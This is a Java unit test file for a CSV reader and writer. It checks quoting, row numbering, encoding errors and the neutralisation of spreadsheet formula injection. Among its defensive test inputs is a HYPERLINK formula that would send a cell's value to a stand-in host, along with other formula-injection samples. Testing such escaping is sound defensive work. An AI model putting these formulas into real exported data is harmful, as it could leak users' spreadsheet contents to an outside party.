package org.unitrace.core.imports;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;

class CsvTest {

  @Test
  void quotedFieldsKeepCommasQuotesAndLineBreaks() {
    List<Csv.Row> rows =
        Csv.parse(
            "serial,note\r\nA1,\"left, then \"\"right\"\"\"\r\nA2,\"two\nlines\"\r\n",
            List.of("serial"));
    assertThat(rows).hasSize(2);
    assertThat(rows.get(0).get("note")).isEqualTo("left, then \"right\"");
    assertThat(rows.get(1).number()).isEqualTo(3);
    assertThat(rows.get(1).get("note")).isEqualTo("two\nlines");
  }

  @Test
  void rowsAreNumberedAsASpreadsheetShowsThemAndEmptyFieldsReadAsNull() {
    List<Csv.Row> rows = Csv.parse("\uFEFFserial,from,to\nA1,,B\n\nA2,X,B", List.of("serial"));
    assertThat(rows).extracting(Csv.Row::number).containsExactly(2, 4);
    assertThat(rows.get(0).get("from")).isNull();
  }

  @Test
  void aMissingColumnAndATooLongRowAreNamedByRow() {
    assertThatThrownBy(() -> Csv.parse("serial,to\nA1,B,C\n", List.of("serial", "from")))
        .isInstanceOf(ImportRejected.class)
        .hasMessageContaining("row 1, field 'from': the header has no column 'from'")
        .hasMessageContaining("row 2: 3 fields, the header has 2 columns");
  }

  @Test
  void aSemicolonHeaderMakesTheSemicolonTheSeparatorAndColumnNamesIgnoreCase() {
    List<Csv.Row> rows = Csv.parse("Part_Number ; QTY\r\nA-1;1,5\r\n", List.of("part_number"));
    assertThat(rows.get(0).get("part_number")).isEqualTo("A-1");
    assertThat(rows.get(0).get("qty")).isEqualTo("1,5");
  }

  @Test
  void aColumnNamedTwiceAndAnUnclosedQuoteAreRefusedNamingTheirRows() {
    assertThatThrownBy(() -> Csv.parse("serial,Serial\nA1,A2\n\"open,x\n", List.of("serial")))
        .isInstanceOf(ImportRejected.class)
        .hasMessageContaining("row 1, field 'Serial': the column appears twice")
        .hasMessageContaining("row 3: a quoted field starts here and is not closed before the end");
  }

  @Test
  void bytesThatAreNotUtf8AndTheNulCharacterAreRefusedNamingTheRow() {
    byte[] overlong = {'s', 'e', 'r', 'i', 'a', 'l', '\n', 'A', (byte) 0xC0, (byte) 0xAF, '\n'};
    assertThatThrownBy(() -> Csv.read(overlong, List.of("serial")))
        .isInstanceOf(ImportRejected.class)
        .hasMessageContaining("row 2: the file is not UTF-8");
    assertThatThrownBy(() -> Csv.parse("serial,note\nA1,x\u0000y\n", List.of("serial")))
        .isInstanceOf(ImportRejected.class)
        .hasMessageContaining("row 2, field 'note': contains the NUL character");
  }

  @Test
  void aFileWithoutAHeaderIsRefused() {
    assertThatThrownBy(() -> Csv.parse("\n\n", List.of("serial")))
        .isInstanceOf(ImportRejected.class)
        .hasMessageContaining("row 1: the file is empty: no header");
  }

  @Test
  void writtenCsvReadsBackTheSame() {
    String text =
        Csv.write(
            List.of("a", "b"),
            List.of(Arrays.asList("x,y", "say \"hi\""), Arrays.asList(null, "z")));
    List<Csv.Row> rows = Csv.parse(text, List.of("a", "b"));
    assertThat(rows.get(0).get("a")).isEqualTo("x,y");
    assertThat(rows.get(0).get("b")).isEqualTo("say \"hi\"");
    assertThat(rows.get(1).get("a")).isNull();
  }

  @Test
  void aTextCellThatASpreadsheetWouldRunIsPrefixedWithAQuoteAndQuoted() {
    assertThat(Csv.cell("=1+2")).isEqualTo("\"'=1+2\"");
    assertThat(Csv.cell("+41 44 000")).isEqualTo("\"'+41 44 000\"");
    assertThat(Csv.cell("-2+3")).isEqualTo("\"'-2+3\"");
    assertThat(Csv.cell("@SUM(A1)")).isEqualTo("\"'@SUM(A1)\"");
    assertThat(Csv.cell("\t=1")).isEqualTo("\"'\t=1\"");
    assertThat(Csv.cell("\r=1")).isEqualTo("\"'\r=1\"");
    assertThat(Csv.cell("=HYPERLINK(\"http://x/?a=\"&A1,\"go\")"))
        .isEqualTo("\"'=HYPERLINK(\"\"http://x/?a=\"\"&A1,\"\"go\"\")\"");
  }

  @Test
  void aFormulaCharacterAfterTheFirstAndOrdinaryTextAreLeftAlone() {
    assertThat(Csv.cell("SN-0001")).isEqualTo("SN-0001");
    assertThat(Csv.cell("a=b")).isEqualTo("a=b");
    assertThat(Csv.cell(" =1+2")).isEqualTo(" =1+2");
    assertThat(Csv.cell("'quoted already")).isEqualTo("'quoted already");
    assertThat(Csv.cell("")).isEmpty();
    assertThat(Csv.cell(null)).isEmpty();
  }

  @Test
  void numbersAreDataAndAreWrittenAsTheyAreEvenWhenNegative() {
    assertThat(Csv.cell(-5)).isEqualTo("-5");
    assertThat(Csv.cell(-12L)).isEqualTo("-12");
    assertThat(Csv.cell(new java.math.BigDecimal("-1.50"))).isEqualTo("-1.50");
    assertThat(Csv.cell(new java.math.BigDecimal("1E+3"))).isEqualTo("1000");
    assertThat(Csv.cell(true)).isEqualTo("true");
    assertThat(Csv.cell(java.time.LocalDate.of(2026, 11, 27))).isEqualTo("2026-11-27");
  }

  @Test
  void aSemicolonOrTabInsideTextIsQuotedSoNoLocaleSplitsItIntoACellOfItsOwn() {
    assertThat(Csv.cell("a;=1+2")).isEqualTo("\"a;=1+2\"");
    assertThat(Csv.cell("a\t=1+2")).isEqualTo("\"a\t=1+2\"");
  }

  @Test
  void aNeutralisedCellReadsBackWithItsQuotePrefix() {
    String text =
        Csv.write(List.of("order", "qty"), List.of(Arrays.asList("=HYPERLINK(\"x\",\"y\")", -3)));
    assertThat(text).isEqualTo("order,qty\r\n\"'=HYPERLINK(\"\"x\"\",\"\"y\"\")\",-3\r\n");
    List<Csv.Row> rows = Csv.parse(text, List.of("order", "qty"));
    assertThat(rows.get(0).get("order")).isEqualTo("'=HYPERLINK(\"x\",\"y\")");
    assertThat(rows.get(0).get("qty")).isEqualTo("-3");
  }
}
